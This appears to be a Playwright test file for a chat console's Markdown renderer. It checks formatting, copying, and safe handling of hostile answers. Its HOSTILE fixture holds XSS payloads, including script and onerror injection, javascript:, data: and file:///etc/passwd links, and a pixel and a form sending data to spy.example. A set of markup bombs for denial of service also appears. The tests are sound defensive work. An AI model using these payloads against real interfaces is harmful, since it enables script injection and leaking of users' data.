"""Answers of models as Markdown: what is drawn, and that hostile ones do nothing."""

import re

import pytest
from playwright.async_api import Browser, expect

from tests.browser.console import HeldAdapter, answer, console, say

pytestmark = pytest.mark.anyio

ANSWER = """# Ships

| name | knots |
|------|------:|
| Tern | 32 |

- [x] fuel
- [ ] crew
    1. captain

> Slow is **smooth**.

```python
print("ahoy")
```

See [the log](/log) and ![a map](https://maps.example/1.png).
"""

HOSTILE = """<script>document.title = "gone"</script><img src=x onerror="document.title = 'gone'">

[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [file](file:///etc/passwd)

![pixel](https://spy.example/?words) ![svg](data:image/svg+xml,<svg onload=alert(1)>)

<style>body { display: none }</style><form action="https://spy.example"><input name=a></form>
"""

FORMULAS = r"""It is $\frac{a_1}{b_1} * c_1$, or \(x^2\), which costs $5 to $10.

$$
\sum_i x_i = \{1\}
$$
"""

BOMBS = {
    "formulas": "('$x_1 \\\\[ '.repeat(800) + '\\n\\n').repeat(150)",
    "quotes": "'>'.repeat(1e6)",
    "lists": "Array.from({ length: 2000 }, (_, at) => ' '.repeat(at) + '- x').join('\\n')",
    "brackets": "'['.repeat(1e6)",
    "emphasis": "'*a _b '.repeat(2e5)",
    "backticks": "Array.from({ length: 1400 }, (_, at) => '`'.repeat(at)).join(' ')",
    "a line": "'word '.repeat(2e5)",
    "a table": "'|a'.repeat(3e4) + '\\n' + '|-'.repeat(3e4) + '\\n' + '|b'.repeat(3e4)",
    "code": "'```sql\\n' + 'SELECT 1;\\n'.repeat(1e5)",
    "headings": "'# a\\n'.repeat(2e5)",
    "links": "'[a](b '.repeat(1.5e5)",
    "tasks": "'- [x] a\\n'.repeat(1e5)",
    "nested lists": "'> - > 1. x\\n'.repeat(9e4)",
    "code blocks": "'```js\\n1\\n```\\n'.repeat(8e4)",
}

DRAW = """async (text) => {
  const box = document.createElement("div"), view = new MarkdownView(box);
  document.querySelector("#items").append(box);
  for (let at = 1; at <= 4; at++) view.update(text.slice(0, text.length * at / 4), at < 4);
  while (!box.lastElementChild?.matches("button")) await new Promise(requestAnimationFrame);
  return [box.querySelectorAll("*").length, box.textContent.length];
}"""


async def test_formulas_are_as_they_were_written_and_prices_are_words(browser: Browser):
    model = HeldAdapter(FORMULAS)
    async with console(browser, model) as page:
        model.say_one()
        await say(page, "tell")
        await expect(answer(page).locator("code")).to_have_text(
            [r"\frac{a_1}{b_1} * c_1", "x^2", r"\sum_i x_i = \{1\}"]
        )
        await expect(answer(page)).to_contain_text("which costs $5 to $10.")


async def test_an_answer_has_tables_tasks_quotes_and_code_in_colours(browser: Browser):
    model = HeldAdapter(ANSWER)
    async with console(browser, model) as page:
        model.say_one()
        await say(page, "tell")

        said = answer(page)
        await expect(said.get_by_role("heading", name="Ships")).to_be_visible()
        await expect(said.get_by_role("cell", name="32")).to_have_css("text-align", "right")
        await expect(said.get_by_role("checkbox", name="Done")).to_be_checked()
        await expect(said.locator("li li")).to_have_text("captain")
        await expect(said.locator("blockquote strong")).to_have_text("smooth")
        await expect(said.locator(".hljs-string")).to_have_text('"ahoy"')
        await expect(said.get_by_role("link", name="the log")).to_have_attribute("target", "_blank")
        await expect(said.get_by_role("button", name="Load the image")).to_be_visible()


async def test_code_is_copied_as_it_was_written(browser: Browser):
    model = HeldAdapter(ANSWER)
    async with console(browser, model) as page:
        await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        model.say_one()
        await say(page, "tell")
        await answer(page).locator(".code").get_by_role("button", name="Copy").click()
        await expect(answer(page).locator(".code-head button")).to_have_text("Copied")

        assert await page.evaluate("navigator.clipboard.readText()") == 'print("ahoy")\n'


async def test_a_hostile_answer_loads_nothing_and_runs_nothing(browser: Browser):
    model = HeldAdapter(HOSTILE)
    async with console(browser, model) as page:
        model.say_one()
        await say(page, "attack")

        await expect(answer(page)).to_contain_text("display: none")
        await expect(answer(page).locator("script, style, form, input, img, iframe")).to_have_count(
            0
        )
        links = await answer(page).locator("a").evaluate_all("all => all.map(it => it.href)")
        assert [link for link in links if not re.match("https?:", link)] == []
        await expect(page).to_have_title(re.compile("^attack"))


async def test_a_megabyte_of_markup_becomes_few_nodes(browser: Browser):
    async with console(browser, HeldAdapter()) as page:
        for text in BOMBS.values():
            nodes, shown = await page.evaluate(f"async () => await ({DRAW})({text})")
            assert nodes < 6_000
            assert shown < 120_000


async def test_the_rest_of_a_long_answer_is_drawn_on_request(browser: Browser):
    model = HeldAdapter("word\n\n" * 3000 + "end")
    async with console(browser, model) as page:
        model.say_one()
        await say(page, "a lot")
        await answer(page).get_by_role("button", name="Show more").click()

        await expect(answer(page).locator("p").last).to_have_text("end")
        await expect(answer(page).locator("p")).to_have_count(3001)


async def test_a_growing_answer_draws_only_its_last_block_anew(browser: Browser):
    model = HeldAdapter("One.\n\nTw", "o.\n\n| a |", "\n|---|\n| b |")
    async with console(browser, model) as page:
        await say(page, "count")
        model.say_one()
        await expect(answer(page).locator("p")).to_have_text(["One.", "Tw"])
        first = await answer(page).locator("p").first.element_handle()
        model.say_one()
        model.say_one()
        await expect(answer(page).get_by_role("cell", name="b")).to_be_visible()

        assert first
        assert await first.evaluate("node => node.isConnected")
        await expect(answer(page).locator("p")).to_have_text(["One.", "Two."])
